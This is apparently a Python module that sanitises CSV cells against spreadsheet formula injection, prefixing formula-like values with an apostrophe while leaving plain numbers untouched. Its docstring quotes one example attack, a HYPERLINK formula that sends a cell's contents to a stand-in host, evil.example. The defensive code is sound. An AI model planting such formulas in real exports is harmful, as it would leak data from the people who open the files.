"""CSV files the hub writes for people to open in a spreadsheet, made safe to open.

A cell beginning with `=`, `+`, `-` or `@` (or a tab or carriage return, which some spreadsheets skip
before reading one of those) is read as a formula: `=HYPERLINK("https://evil.example/?"&A2, "Click")`
typed into an imported row would run on the clerk's machine when the rejected rows are opened. Such a
cell is written with a leading `'`, which spreadsheets show as text and do not evaluate (OWASP's "CSV
injection" advice). A plain number (`-1.5`, `+441174960123`) is no formula and is left as it is.
"""
from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> str:
    """`value` as CSV cell text that no spreadsheet evaluates as a formula."""
    text = "" if value is None else value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def write_rows(handle: IO[str], header: list[str], rows: Iterable[Iterable[Any]]) -> None:
    """A header row and rows, every cell (the header's too: it may come from the input) made safe."""
    writer = csv.writer(handle)
    writer.writerow([safe_cell(name) for name in header])
    writer.writerows([safe_cell(value) for value in row] for row in rows)
